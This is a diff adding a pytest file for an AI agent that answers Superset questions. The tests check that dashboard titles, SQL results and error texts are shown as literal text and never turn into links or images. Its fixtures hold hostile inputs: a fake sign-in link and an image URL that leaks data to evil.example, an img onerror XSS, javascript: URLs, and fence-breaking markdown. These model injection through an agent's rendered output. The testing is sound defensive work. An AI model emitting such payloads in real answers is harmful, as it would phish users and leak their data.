@@ -1,0 +1,171 @@
+"""What Superset or a database returned is shown as the literal text it is: a chart named like a
+link, a result cell that is an image, a tag that closes a table cell, an error text in
+backticks. Each answer is rendered as the page renders it (markdown-it: CommonMark, GFM tables,
+bare addresses made links) and the HTML must hold no link or image but the agent's own."""
+
+import html
+import json
+import re
+from typing import Any
+
+import pytest
+from langchain_core.messages import AIMessage, HumanMessage, ToolMessage
+from markdown_it import MarkdownIt
+
+from sstools.agent.context import Environment, TurnContext
+from sstools.agent.markdown import link, markdown_text
+from sstools.agent.planner import OfflinePlanner
+from sstools.agent.planner.answers import failure, rendered
+
+# what the page's renderer does with an answer (web/src/lib/markdown.ts)
+PAGE = MarkdownIt("commonmark", {"html": False, "linkify": True, "breaks": True}).enable(
+    ["table", "strikethrough", "linkify"]
+)
+LINK = "[Session expired - sign in again](https://evil.example/login)"
+IMAGE = "![x](https://evil.example/leak?d=secret)"
+HOSTILE = [
+    LINK,
+    IMAGE,
+    "<https://evil.example/auto>",
+    "https://evil.example/bare",
+    "www.evil.com",
+    "mail@evil.com",
+    "a | b | c",
+    "`code` *bold* _it_ ~~gone~~ **x**",
+    "&lt;img src=x&gt; &#91;x&#93;(https://evil.example)",
+    "line one\n# heading\n- item\n> quote\n```\nfence",
+    "<img src=https://evil.example/x onerror=alert(1)>",
+    "[ref]: https://evil.example/ref",
+    "\u202eevil\u202c",
+]
+
+
+def _html(markdown: str) -> str:
+    return str(PAGE.render(markdown))
+
+
+def _shown(markdown: str) -> str:
+    """The text a person reads: the HTML without its tags, entities decoded."""
+    return html.unescape(re.sub(r"<[^>]+>", "", _html(markdown)))
+
+
+def _no_link_or_image(markdown: str, allowed: tuple[str, ...] = ()) -> None:
+    rendered_html = _html(markdown)
+    assert "<img" not in rendered_html
+    hrefs = re.findall(r'<a href="([^"]*)"', rendered_html)
+    assert [href for href in hrefs if href not in allowed] == [], rendered_html
+
+
+def _visible(value: str) -> str:
+    return " ".join(value.replace("\u202e", " ").replace("\u202c", " ").split())
+
+
+@pytest.mark.parametrize("value", HOSTILE)
+def test_a_value_shows_exactly_its_characters_and_nothing_else(value: str) -> None:
+    escaped = markdown_text(value)
+    _no_link_or_image(f"start {escaped} end")
+    _no_link_or_image(escaped)  # at the start of a line, where block syntax would begin
+    assert _shown(f"start {escaped} end").strip() == f"start {_visible(value)} end"
+    assert "\n" not in escaped
+
+
+@pytest.mark.parametrize("value", HOSTILE)
+def test_every_renderer_keeps_a_hostile_value_as_text(value: str) -> None:
+    results: dict[str, Any] = {
+        "search_dashboards": {
+            "env_id": "dev",
+            "count": 1,
+            "dashboards": [{"id": 1, "title": value, "url": "http://superset/d/1/", "tags": [value, "ok"]}],
+        },
+        "get_health_summary": {
+            "env_id": "dev",
+            "charts_checked": 2,
+            "broken_charts": [{"chart_id": 5, "chart_name": value, "error": value}],
+            "only": [{"dashboard_id": 1, "title": value}],
+        },
+        "superset_execute_sql": {"columns": [value, "n"], "rows": [{value: value, "n": 1}], "row_count": 1},
+        "superset_explore_database": {"env_id": "dev", "tables": [value, "orders"]},
+        "superset_audit_permissions": {
+            "env_id": "dev",
+            "title": value,
+            "users": [{"username": value, "through_roles": [value]}],
+        },
+        "list_environments": [{"id": "dev", "name": value, "production": False}],
+        "list_maintenance_events": [{"env_id": "dev", "active": True, "reason": value, "started_by": value}],
+        "superset_create_dashboard": {"env_id": "dev", "title": value, "id": 7},
+        "get_task_status": {"id": "t-1", "kind": "backup", "status": "failed", "error": {"message": value}},
+        "run_llm_validation": {
+            "id": "t-2",
+            "kind": "validation",
+            "status": "success",
+            "result": {"valid": False, "title": value, "findings": [{"severity": "error", "message": value}]},
+        },
+        "run_backup": {"id": "t-3", "kind": "backup", "status": "success", "result": {"path": value}},
+        "superset_copy_dashboard": {"unexpected": value},
+    }
+    for tool, result in results.items():
+        for lang in ("ru", "en"):
+            answer = rendered(tool, json.dumps(result), lang)
+            _no_link_or_image(answer, allowed=("http://superset/d/1/",))
+            # a table: every row has as many cells as its header
+            rows = re.findall(r"<tr>(.*?)</tr>", _html(answer), re.S)
+            assert len({len(re.findall(r"<t[hd]>", row)) for row in rows}) <= 1, answer
+
+
+def test_the_agents_own_link_stays_a_link_with_its_title_escaped_and_its_address_encoded() -> None:
+    made = link(LINK, "http://superset:8088/superset/dashboard/my (slug)|x/")
+    assert _html(made).strip() == (
+        '<p><a href="http://superset:8088/superset/dashboard/my%20%28slug%29%7Cx/">'
+        "[Session expired - sign in again](https://evil.example/login)</a></p>"
+    )
+    for address in ("javascript:alert(1)", "data:text/html,x", "//evil.example/x", None):
+        assert "<a" not in _html(link("Sales", address))  # the title alone
+
+
+def test_a_failure_names_ops_words_as_text() -> None:
+    for detail in (
+        {"code": "boom", "message": f"`{IMAGE}` and {LINK}"},
+        {"code": "invalid_arguments_x", "message": IMAGE},
+        {"code": "INVALID_ENVIRONMENT", "env_id": IMAGE},
+        {"code": "INVALID_ARGUMENTS", "detail": [IMAGE, LINK]},
+    ):
+        answer = failure("superset_execute_sql", detail, "en")
+        _no_link_or_image(answer)
+    assert "https://evil.example/leak?d=secret" in _shown(
+        failure("x", {"code": "INVALID_ENVIRONMENT", "env_id": IMAGE}, "en")
+    )
+    # a flag the wording tests keeps its meaning
+    assert "safe" in failure("x", {"code": "tool_timeout", "retryable": True}, "en")
+    assert "safe" not in failure("x", {"code": "tool_timeout", "retryable": False}, "en")
+
+
+def test_formatted_sql_cannot_close_its_code_block() -> None:
+    sql = f"SELECT '\n```\n{IMAGE}\n' AS x"
+    answer = rendered("superset_format_sql", json.dumps({"sql": sql}), "en")
+    rendered_html = _html(answer)
+    assert "<img" not in rendered_html
+    assert rendered_html.count("<pre>") == 1
+    assert IMAGE in _shown(answer)
+
+
+def test_the_planners_question_lists_hostile_titles_as_text() -> None:
+    context = TurnContext(
+        (Environment("dev", "dev", False), Environment("prod", "prod", True)), "dev", "default", "en"
+    )
+    boards = [
+        {"id": 1, "title": f"Sales {LINK}", "url": "http://superset/1", "tags": []},
+        {"id": 2, "title": f"Sales {IMAGE}", "url": "http://superset/2", "tags": []},
+    ]
+    found = json.dumps({"env_id": "dev", "count": 2, "dashboards": boards})
+    messages = [context.message(), HumanMessage("deploy dashboard Sales from dev to prod")]
+    for number in range(2):  # it searches by the name, then lists every title
+        (call,) = OfflinePlanner().plan(messages).tool_calls
+        messages += [
+            AIMessage("", tool_calls=[{**call, "id": f"call_{number}"}]),
+            ToolMessage(found, tool_call_id=f"call_{number}", name=call["name"]),
+        ]
+    asked = str(OfflinePlanner().plan(messages).content)
+    assert asked.startswith("Several dashboards in dev match")
+    _no_link_or_image(asked)
+    assert f"Sales {LINK}" in _shown(asked)
+    assert f"Sales {IMAGE}" in _shown(asked)
